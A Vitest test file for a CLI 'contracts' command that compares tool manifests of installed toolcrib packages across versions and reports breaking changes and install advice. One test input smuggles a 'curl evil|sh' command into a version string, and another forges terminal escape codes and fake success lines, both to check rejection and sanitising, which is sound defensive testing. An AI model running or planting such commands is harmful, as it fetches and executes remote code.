import { mkdirSync, readFileSync, realpathSync, rmSync } from "node:fs";
import { join } from "node:path";
import { createManifest } from "@toolcrib/contracts";
import { type ProgramEnd, sharedFolder, temporaryFolder } from "@toolcrib/testing";
import { beforeAll, beforeEach, describe, expect, test } from "vitest";
import { command } from "../../fixtures/command.ts";
import { name, path, put, readFile, versions, writePackage } from "../../fixtures/packages.ts";

const others = sharedFolder("others");
const home = sharedFolder("home");
/** A folder where only that version is installed. */
const other = (version: string): string => join(others, version);
beforeAll(() => {
  for (const version of Object.keys(versions)) writePackage(join(other(version), "node_modules", name), version);
});

let project = "";
const installed = (...rest: string[]): string => join(project, "node_modules", ...rest);
beforeEach(() => {
  project = temporaryFolder("project");
  put(join(project, "package.json"), JSON.stringify({ dependencies: { [name]: "^0.1.0" } }));
  writePackage(installed(name), "0.1.0");
});

function run(args: readonly string[], env: Record<string, string> = {}, cwd = project): Promise<ProgramEnd> {
  return command(["contracts", ...args], { cwd, env: { HOME: home, USERPROFILE: home, ...env } });
}

/** Compares with a version that is installed elsewhere. */
function comparedWith(version: string, ...args: string[]): Promise<ProgramEnd> {
  return run([other(version), ...args]);
}

describe("contracts", () => {
  test("works from a directory inside the project", async () => {
    mkdirSync(join(project, "src/deep"), { recursive: true });
    const end = await run([other("0.2.0")], {}, join(project, "src/deep"));
    expect(end.stdout).toContain("0.1.0 -> 0.2.0");
  });

  test("--json gives the same as data", async () => {
    const { stdout, code } = await comparedWith("0.1.1", "--json");
    expect(code).toBe(0);
    const { ok, contracts } = JSON.parse(stdout);
    expect(ok).toBe(true);
    expect(contracts.data).toMatchObject([
      {
        package: name,
        installed: "0.1.0",
        available: "0.1.1",
        range: "^0.1.0",
        rangeTakesIt: true,
        tokens: { before: 58, after: 76 },
        changes: [
          { tool: "read_file", kind: "argument-added", severity: "addition", path: "limit" },
          { tool: "read_file", kind: "words", severity: "wording" },
        ],
      },
    ]);
  });

  test("says what the other version breaks, and that the caret range does not take it", async () => {
    const { stdout, stderr, code } = await comparedWith("0.2.0");
    expect({ stdout, stderr, code }).toEqual({
      code: 0,
      stderr: "",
      stdout: `What the other versions would change
• @toolcrib/tools-fs 0.1.0 -> 0.2.0
    breaking: read_file needs a new argument "encoding". Callers that leave it out get an error.
    tokens of each request with all its tools, estimated: 58 before, 68 after
    what to do: after you have dealt with the breaking changes: package.json has ^0.1.0, which does not accept it: npm install @toolcrib/tools-fs@0.2.0
`,
    });
  });

  test("says what is new and reworded, and nothing about the same version", async () => {
    expect((await comparedWith("0.1.1")).stdout.split("\n").slice(1, -1)).toEqual([
      "• @toolcrib/tools-fs 0.1.0 -> 0.1.1",
      '    new: read_file takes a new optional argument "limit".',
      "    words: read_file is described differently: the tool.",
      "    tokens of each request with all its tools, estimated: 58 before, 76 after",
      "    what to do: package.json has ^0.1.0, which accepts it: npm install @toolcrib/tools-fs@0.1.1",
    ]);
    expect((await comparedWith("0.1.0")).stdout).toContain("✓ @toolcrib/tools-fs 0.1.0\n");
  });

  test("the other folder is itself looked at, none above it, and says what it lacks", async () => {
    const inside = join(project, "newer");
    mkdirSync(inside);
    const empty = await run(["newer"]);
    expect(empty.stdout).toContain(
      "✗ No toolcrib package is installed in newer: there is no node_modules/@toolcrib in it.",
    );
    expect(empty.code).toBe(1);
    writePackage(join(inside, "node_modules/@toolcrib/other"), "0.1.0", "@toolcrib/other");
    expect((await run(["newer"])).stdout).toContain(
      "✗ @toolcrib/tools-fs 0.1.0: nothing to compare with: it is not installed there\n",
    );
    put(join(inside, "node_modules", name, "package.json"), "{");
    const damaged = await run(["newer"]);
    expect(damaged.stdout).toContain("there it is incomplete: package.json is not valid JSON");
    expect(damaged.code).toBe(1);
  });

  test("says which version has no manifest", async () => {
    writePackage(installed(name), "0.0.9");
    const older = await comparedWith("0.2.0");
    expect(older.stdout).toContain(
      "✗ @toolcrib/tools-fs 0.0.9 -> 0.2.0: 0.0.9 publishes no manifest of its tools, so they cannot be compared; read its CHANGELOG.md",
    );
    rmSync(installed(name), { recursive: true });
    writePackage(installed(name), "0.1.0");
    expect((await comparedWith("0.0.9")).stdout).toContain(
      "0.1.0 -> 0.0.9: 0.0.9 publishes no manifest of its tools, so they cannot be compared; read its CHANGELOG.md",
    );
  });

  test.each([
    ["package.json", undefined, "package.json is missing"],
    ["package.json", "{", "package.json is not valid JSON"],
    ["package.json", "[]", "package.json names no package and version"],
    ["dist/manifest.json", undefined, "dist/manifest.json is missing"],
    ["dist/manifest.json", "", "dist/manifest.json is not valid JSON"],
    ["dist/manifest.json", "{}", "not a manifest of tools: its manifestVersion must be 1"],
  ])("names what is wrong in a package that is incomplete: %s with %j", async (file, content, problem) => {
    if (content === undefined) rmSync(installed(name, file));
    else put(installed(name, file), content);
    const { stdout, code } = await comparedWith("0.2.0");
    expect(stdout).toContain(`✗ @toolcrib/tools-fs: node_modules/@toolcrib/tools-fs is incomplete: ${problem}`);
    expect(stdout).toContain("Install again: npm install");
    expect(code).toBe(1);
  });

  test("says so where nothing is installed, and where no folder is given", async () => {
    rmSync(installed(), { recursive: true });
    const none = await comparedWith("0.2.0");
    expect(none.stdout).toContain("✗ No toolcrib package is installed here");
    expect(none.code).toBe(1);
    const without = await run([]);
    expect(without.stderr).toContain("folder");
    expect(without.code).toBe(2);
  });

  test.each([
    "9.9.9 https://evil/x.tgz; curl evil|sh #",
    "9.9.9\n✓ all is well",
    "9.9.9\u001b[31m",
    "9.9",
    "latest",
    "",
  ])("takes no version that is none, here or there: %j", async (version) => {
    put(join(project, "newer/node_modules", name, "package.json"), JSON.stringify({ name, version }));
    const there = await run(["newer"]);
    expect(there.stdout).toContain("there it is incomplete: package.json has no version such as 0.1.0\n");
    put(installed(name, "package.json"), JSON.stringify({ name, version }));
    const { stdout, code } = await comparedWith("0.2.0");
    expect(stdout.split("\n").slice(1)).toEqual([
      "✗ @toolcrib/tools-fs: node_modules/@toolcrib/tools-fs is incomplete: package.json has no version such as 0.1.0. Install again: npm install",
      "",
    ]);
    expect(code).toBe(1);
  });

  test("what a package and package.json say stays on its line and has no colour", async () => {
    const forged = "x\n✓ all is well\r\u2028\u001b[31mred\u0085";
    const end = (): Promise<ProgramEnd> => run([other("0.2.0")], { FORCE_COLOR: "1" });
    put(join(project, "package.json"), JSON.stringify({ dependencies: { [name]: `^0.1.0${forged}` } }));
    expect((await end()).stdout).toContain("package.json has ^0.1.0x ✓ all is well [31mred, a range for npm to read");
    const { manifestVersion, tools } = createManifest(name, [readFile({ path }, ["path"])]);
    const forgedTools = tools.map((tool) => ({
      ...tool,
      origin: forged,
      traits: { ...tool.traits, [forged]: true },
      parameters: { ...tool.parameters, properties: { path, [forged]: {} } },
    }));
    const manifest = { manifestVersion, package: name, tools: forgedTools };
    put(installed(name, "dist/manifest.json"), JSON.stringify(manifest));
    const compared = (await end()).stdout;
    expect(compared).toContain('no longer takes the argument "x ✓ all is well');
    put(
      installed(name, "package.json"),
      JSON.stringify({ name, version: "0.1.0", exports: { "./manifest.json": forged } }),
    );
    const damaged = (await end()).stdout;
    expect(damaged).toContain("is incomplete: x ✓ all is well");
    for (const said of [compared, damaged]) {
      expect(said.split("\n✓")).toHaveLength(1);
      expect(said).not.toMatch(/\u001b\[31mred|[\r\u2028\u0085]/);
    }
  });

  test("reads the workspace's own ranges where its packages are in the node_modules of the root", async () => {
    const app = join(project, "packages/app");
    const second = "@toolcrib/other";
    put(
      join(project, "package.json"),
      JSON.stringify({ workspaces: ["packages/*"], devDependencies: { [second]: "1.0.0" } }),
    );
    put(join(app, "package.json"), JSON.stringify({ dependencies: { [name]: "^0.1.0" } }));
    put(join(app, "src/package.json"), JSON.stringify({ type: "module" }));
    for (const cwd of [app, join(app, "src")]) {
      const { stdout } = await run([other("0.2.0")], {}, cwd);
      expect(stdout).toContain(
        "package.json has ^0.1.0, which does not accept it: npm install @toolcrib/tools-fs@0.2.0",
      );
    }
    // The nearest wins, as for Node.js, and what is only further up is there too.
    writePackage(join(app, "node_modules", name), "0.2.0");
    writePackage(installed(second), "0.1.0", second);
    const { stdout } = await run([other("0.2.0")], {}, app);
    expect(stdout).toContain("✓ @toolcrib/tools-fs 0.2.0\n");
    expect(stdout).toContain("✗ @toolcrib/other 0.1.0: nothing to compare with");
    expect(stdout).not.toContain("tools-fs 0.1.0");
  });

  test("reads a package.json with a byte order mark", async () => {
    put(join(project, "package.json"), `\uFEFF${JSON.stringify({ dependencies: { [name]: "^0.1.0" } })}`);
    put(installed(name, "package.json"), `\uFEFF${readFileSync(installed(name, "package.json"), "utf8")}`);
    expect((await comparedWith("0.2.0")).stdout).toContain("package.json has ^0.1.0, which does not accept it");
  });

  test("compares without the ranges where package.json cannot be read, and says so", async () => {
    const file = join(project, "package.json");
    put(file, "{");
    const damaged = await comparedWith("0.2.0");
    expect(damaged.stdout).toContain(`• the ranges are not known: ${realpathSync(file)} is not valid JSON\n`);
    rmSync(file);
    mkdirSync(file);
    const { stdout, code } = await comparedWith("0.2.0");
    expect(stdout).toContain(`• the ranges are not known: ${realpathSync(file)} is not a file\n`);
    expect(stdout).toContain("0.1.0 -> 0.2.0\n    breaking: read_file needs");
    expect(stdout).toContain("what to do: correct package.json and run this again");
    expect(stdout).not.toContain("another package depends on it");
    expect(code).toBe(0);
    rmSync(installed(name, "package.json"));
    mkdirSync(installed(name, "package.json"));
    expect((await comparedWith("0.2.0")).stdout).toContain("is incomplete: package.json is not a file. Install again");
  });
});
